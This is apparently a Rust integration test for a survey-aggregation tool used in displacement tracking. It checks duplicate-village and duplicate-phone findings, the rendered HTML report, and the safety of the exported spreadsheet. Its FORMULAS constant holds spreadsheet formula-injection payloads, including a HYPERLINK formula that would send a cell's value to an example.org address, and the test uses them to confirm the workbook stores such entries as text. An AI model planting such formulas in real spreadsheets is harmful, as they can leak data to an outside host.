//! Issue 22 parts 4 to 6, through the real binary: two enumerators fill
//! the shipped DTM baseline form (`fill --finalize`), export, and the data
//! manager aggregates with last round's village list and the assignments.
//! checks.csv is read back with the csv crate; summary.html is opened in
//! headless Chromium (a screenshot at 1280x800 kept in
//! `target/tmp/report/`, and every number the page marks compared with
//! summary.json); the workbook's free text that looks like a formula is
//! read back with calamine (and openpyxl when installed) as text.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use calamine::{Data, Reader};
use serde_json::{Value, json};

use crate::support::{Enumerator, have, skip, stderr};

/// Where the page and its screenshot are kept after the test.
fn artifacts() -> PathBuf {
    PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("report")
}

/// Free text a spreadsheet would take for a formula.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://example.org/?d=\"&A1,\"click\")",
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
];

fn village(code: &str, phone: &str, remarks: &str) -> Value {
    json!({
        "m1855_meta_assessment_date": "2026-11-20", "m0489_meta_survey_round": "R3",
        "m1470_meta_enum_sex": "female", "m1725_meta_interview_type": "inperson_mobile",
        "m0303_meta_adm1_pcode": "LA01", "m0304_meta_adm2_pcode": "LA0101",
        "m0306_meta_adm4_pcode": code, "ki_consent": "OK", "ki_type": "village_chief",
        "ki_sex": "male", "ki_phone": phone,
        "m1535_loc_arrival_time": "yes", "m1537_loc_num_arrivals_hh": 12, "m0310_loc_num_idp_ind": 50,
        "m2968_loc_num_men_idp": 15, "m2969_loc_num_women_idp": 17, "m2970_loc_num_children_idp": 18,
        "idp_girls_0_5": 4, "idp_boys_0_5": 5, "idp_girls_6_17": 4, "idp_boys_6_17": 5,
        "idp_women_18_59": 14, "idp_men_18_59": 13, "idp_women_60_plus": 3, "idp_men_60_plus": 2,
        "m1727_loc_main_group_arrival_date": "2026-09", "m2686_loc_arrivals_origin_adm1": "LA17",
        "m2685_loc_arrivals_origin_adm2": "LA1704", "m0329_loc_reason_disp_idp": ["climate_floods"],
        "m2688_loc_arrivals_site_type": "collective_centre",
        "s2878_loc_top_3_priority_need_idp": ["food", "shelter"],
        "m1461_loc_return_obs_unit": "no", "retmig_present": "no", "formig_present": "no",
        "m1690_loc_depart_hh": "no", "displaced_shelter_types": ["host_family"],
        "num_displaced_hh_damaged_shelter": 2, "remarks": remarks
    })
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn fill_and_export(e: &Enumerator, form: &str, records: &[Value], usb: &Path) {
    let lines: Vec<String> = records.iter().map(Value::to_string).collect();
    let out = e.fill(form, &(lines.join("\n") + "\n"), &["--finalize"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = e.run(&["export", "--out", s(usb)]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// The aggregated round: the output folder (kept with the temp dir).
fn round() -> (tempfile::TempDir, PathBuf) {
    let one = Enumerator::init("enum-01");
    let two = Enumerator::init("enum-02");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let usb = d.join("usb");
    std::fs::create_dir_all(&usb).unwrap();
    fill_and_export(
        &one,
        "dtm_baseline",
        &[
            village("10101", "02055512345", FORMULAS[0]),
            village("10102", "02055599999", FORMULAS[1]),
            village("10103", "", FORMULAS[2]),
        ],
        &usb,
    );
    // The same village in the same round by another team, with the same
    // key informant's phone.
    fill_and_export(
        &two,
        "dtm_baseline",
        &[village("10101", "02055512345", FORMULAS[3])],
        &usb,
    );
    // And a site assessment: the other DTM form's age bands and needs.
    let site: Value =
        serde_json::from_str(include_str!("../fixtures/site_assessment_complete.json")).unwrap();
    fill_and_export(&two, "dtm_site_assessment", &[site], &usb);

    let signers = d.join("allowed_signers");
    std::fs::write(
        &signers,
        format!("{}\n{}\n", one.signers_line, two.signers_line),
    )
    .unwrap();
    // Last round: 10101 had 20 IDPs (now 50: +150%), 10102 had 45.
    let last = d.join("last-round");
    std::fs::create_dir_all(&last).unwrap();
    std::fs::write(
        last.join("villages.csv"),
        "name,label,__version,last_idp_hh,last_idp_ind\n\
         10101,Nongping,1,10,20\n10102,Bornangoua,1,11,45\n",
    )
    .unwrap();
    let assignments = d.join("assignments.csv");
    std::fs::write(
        &assignments,
        "enumerator_id,list,name\nenum-01,villages,10101\nenum-01,villages,10102\n\
         enum-02,villages,10104\n",
    )
    .unwrap();
    let out = d.join("tables");
    let run = crate::aggregate::aggregate(
        &out,
        &[&usb],
        &signers,
        &[
            "--entities",
            s(&last),
            "--assignments",
            s(&assignments),
            "--xlsx",
            "--hxl",
        ],
    );
    // Two creates of 10101 are an entity problem (exit 1); either way
    // everything is written.
    assert!(matches!(run.status.code(), Some(0 | 1)), "{}", stderr(&run));
    assert!(
        stderr(&run).contains("quality check finding(s) to look at"),
        "{}",
        stderr(&run)
    );
    (dir, out)
}

fn summary(out: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap()
}

/// checks.csv as (check, record, field, value, why) rows.
fn checks(out: &Path) -> Vec<[String; 5]> {
    let mut r = csv::Reader::from_path(out.join("checks.csv")).unwrap();
    let head: Vec<String> = r
        .headers()
        .unwrap()
        .iter()
        .map(|h| h.trim_start_matches('\u{FEFF}').to_string())
        .collect();
    assert_eq!(
        head,
        ["check", "record_id", "form_id", "field", "value", "why"]
    );
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            assert_eq!(
                &rec[2], "dtm_baseline",
                "the site assessment has nothing to look at"
            );
            [0, 1, 3, 4, 5].map(|i| rec[i].to_string())
        })
        .collect()
}

/// The record ids of the table, by village.
fn records_by_village(out: &Path) -> BTreeMap<String, Vec<String>> {
    let mut r = csv::Reader::from_path(out.join("dtm_baseline.csv")).unwrap();
    let head = r.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h.ends_with(name)).unwrap();
    let (id, village) = (col("record_id"), col("/m0306_meta_adm4_pcode"));
    let mut by = BTreeMap::<String, Vec<String>>::new();
    for rec in r.records().skip(1) {
        let rec = rec.unwrap();
        by.entry(rec[village].to_string())
            .or_default()
            .push(rec[id].to_string());
    }
    by
}

#[test]
fn checks_and_report_of_a_round_through_the_real_binary() {
    let (_dir, out) = round();
    let found = checks(&out);
    let villages = records_by_village(&out);
    let twice = &villages["10101"];
    assert_eq!(twice.len(), 2);
    let named =
        |check: &str| -> Vec<&[String; 5]> { found.iter().filter(|f| f[0] == check).collect() };

    // One village twice in R3 by two enumerators: both records named.
    let same = named("same_site_twice");
    let ids: Vec<&str> = same.iter().map(|f| f[1].as_str()).collect();
    assert_eq!(ids.len(), 2, "{found:?}");
    assert!(
        twice.iter().all(|id| ids.contains(&id.as_str())),
        "{found:?}"
    );
    assert!(
        same.iter()
            .all(|f| f[2] == "grp_location/m0306_meta_adm4_pcode" && f[3] == "10101")
    );

    // One phone in two records: named, the phone never written.
    let phone = named("same_phone");
    assert_eq!(phone.len(), 2, "{found:?}");
    assert!(
        phone
            .iter()
            .all(|f| f[2] == "grp_key_informant/ki_phone" && f[3].is_empty())
    );
    let text = std::fs::read_to_string(out.join("checks.csv")).unwrap();
    assert!(
        !text.contains("5551234") && !text.contains("55512345"),
        "{text}"
    );

    // 50 IDPs in 10101 against last round's 20: both records; 10102's 50
    // against 45 is no move; 10103 was not in last round's list.
    let moved = named("moved_from_last_round");
    assert_eq!(moved.len(), 2, "{found:?}");
    assert!(moved.iter().all(|f| f[2] == "grp_idp/m0310_loc_num_idp_ind"
        && f[3] == "50"
        && f[4].contains("+150%")));

    // The counts add up (the form's constraints hold them); interviews
    // under the fixed clock all take 0 s: no median to compare with.
    assert!(named("counts_do_not_add_up").is_empty());
    assert!(named("short_interview").is_empty());

    // The summary counts what checks.csv has.
    let sum = summary(&out);
    for check in [
        "same_site_twice",
        "same_phone",
        "moved_from_last_round",
        "counts_do_not_add_up",
        "short_interview",
    ] {
        assert_eq!(sum["checks"][check], named(check).len(), "{check}");
    }
    assert_eq!(sum["checks_total"], found.len());
    // New figures in summary.json: names beside codes, the pyramid, needs.
    assert_eq!(sum["report"]["admin_names"]["LA0101"]["en"], "Chanthabuly");
    assert_eq!(sum["report"]["pyramid"]["dtm_baseline"][0]["female"], 16.0);
    assert_eq!(
        sum["report"]["needs"]["dtm_baseline"]["s2878_loc_top_3_priority_need_idp"]["food"],
        4
    );
    assert_eq!(sum["report"]["rounds"]["dtm_baseline"]["R3"]["idps"], 200.0);
    let site = &sum["report"]["pyramid"]["dtm_site_assessment"];
    assert_eq!(
        (&site[1]["female"], &site[1]["male"]),
        (&json!(25.0), &json!(26.0))
    );
    assert_eq!(
        sum["report"]["needs"]["dtm_site_assessment"]["s2878_loc_top_3_priority_need_idp"]["drinking_water"],
        1,
        "needs from the calculate that joins the three priority needs"
    );

    let html = std::fs::read_to_string(out.join("summary.html")).unwrap();
    assert!(
        !html.contains("<script") && !html.contains("src=\"http"),
        "self-contained"
    );
    std::fs::create_dir_all(artifacts()).unwrap();
    std::fs::copy(out.join("summary.html"), artifacts().join("summary.html")).unwrap();
    chromium_checks(&out, &sum);
    spreadsheet_safety(&out);
}

/// Headless Chromium: the page renders (a screenshot kept), and every
/// number it marks is the number summary.json has there.
fn chromium_checks(out: &Path, sum: &Value) {
    let test = "checks_and_report_of_a_round_through_the_real_binary";
    if !have("chromium", test) {
        return;
    }
    let profile = tempfile::tempdir().unwrap();
    let page = format!("file://{}", out.join("summary.html").display());
    let run = |extra: &[&str]| {
        std::process::Command::new("chromium")
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--hide-scrollbars",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(extra)
            .arg(&page)
            .output()
            .unwrap()
    };
    let shot = artifacts().join("summary-1280x800.png");
    let _ = std::fs::remove_file(&shot);
    let took = run(&[
        &format!("--screenshot={}", shot.display()),
        "--window-size=1280,800",
    ]);
    assert!(took.status.success(), "{}", stderr(&took));
    let png = std::fs::read(&shot).unwrap();
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 10_000,
        "a screenshot"
    );

    let dumped = run(&["--dump-dom"]);
    assert!(dumped.status.success(), "{}", stderr(&dumped));
    let dom = String::from_utf8_lossy(&dumped.stdout);
    let marked = regex::Regex::new(r#"data-json="([^"]*)"[^>]*>([^<]*)<"#).unwrap();
    let mut compared = Vec::new();
    for m in marked.captures_iter(&dom) {
        let pointer = m[1].replace("&amp;", "&").replace("&quot;", "\"");
        let shown: f64 = m[2]
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("{pointer}: {:?}", &m[2]));
        let want = sum
            .pointer(&pointer)
            .and_then(Value::as_f64)
            .unwrap_or_else(|| panic!("{pointer} is not a number in summary.json"));
        assert!(
            (shown - want).abs() < 0.01,
            "{pointer}: page {shown}, summary.json {want}"
        );
        compared.push(pointer);
    }
    for wanted in [
        "/records",
        "/by_province/LA01",
        "/by_district/LA0101",
        "/checks/same_site_twice",
        "/checks_total",
        "/report/pyramid/dtm_baseline/2/male",
        "/report/pyramid/dtm_site_assessment/3/female",
        "/report/needs/dtm_baseline/s2878_loc_top_3_priority_need_idp/food",
        "/coverage/by_enumerator/enum-01/visited",
        "/report/rounds/dtm_baseline/R3/idps",
        "/totals/dtm_baseline/#affected+idps (m0310_loc_num_idp_ind)",
    ] {
        assert!(
            compared.iter().any(|p| p == wanted),
            "{wanted} not on the page: {compared:?}"
        );
    }
    // Names beside codes, in English and Lao.
    assert!(dom.contains("Vientiane Capital") && dom.contains("ຈັນທະບູລີ"));
}

/// Free text beginning `=`, `+`, `-` or `@` is a text cell in the
/// workbook, never a formula.
fn spreadsheet_safety(out: &Path) {
    let xlsx = out.join("dtm_baseline.xlsx");
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let rows: Vec<Vec<Data>> = book
        .worksheet_range("records")
        .unwrap()
        .rows()
        .map(<[Data]>::to_vec)
        .collect();
    let col = rows[0]
        .iter()
        .position(|h| matches!(h, Data::String(s) if s.ends_with("remarks")))
        .unwrap();
    let mut remarks: Vec<Data> = rows[2..].iter().map(|r| r[col].clone()).collect();
    remarks.sort_by_key(|d| d.to_string());
    let mut want: Vec<Data> = FORMULAS
        .iter()
        .map(|f| Data::String(f.to_string()))
        .collect();
    want.sort_by_key(|d| d.to_string());
    assert_eq!(remarks, want, "text cells, exactly as typed");
    let formulas = book.worksheet_formula("records").unwrap();
    assert!(
        formulas.rows().flatten().all(String::is_empty),
        "no formula in the workbook"
    );

    let test = "checks_and_report_of_a_round_through_the_real_binary";
    let has_openpyxl = std::process::Command::new("python3")
        .args(["-c", "import openpyxl"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_openpyxl {
        skip(
            test,
            "python3 with openpyxl is not installed (pip install openpyxl)",
        );
        return;
    }
    let script = "import sys, json, openpyxl\n\
        ws = openpyxl.load_workbook(sys.argv[1])['records']\n\
        head = [c.value for c in ws[1]]\n\
        col = [i for i, h in enumerate(head) if h and h.endswith('remarks')][0]\n\
        cells = [r[col] for r in ws.iter_rows(min_row=3)]\n\
        print(json.dumps([[c.data_type, c.value] for c in cells]))\n";
    let run = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&xlsx)
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", stderr(&run));
    let cells: Vec<(String, String)> = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(cells.len(), FORMULAS.len());
    for (kind, value) in cells {
        assert_eq!(
            kind, "s",
            "openpyxl reads {value:?} as a string, not a formula ('f')"
        );
        assert!(FORMULAS.contains(&value.as_str()), "{value:?}");
    }
}
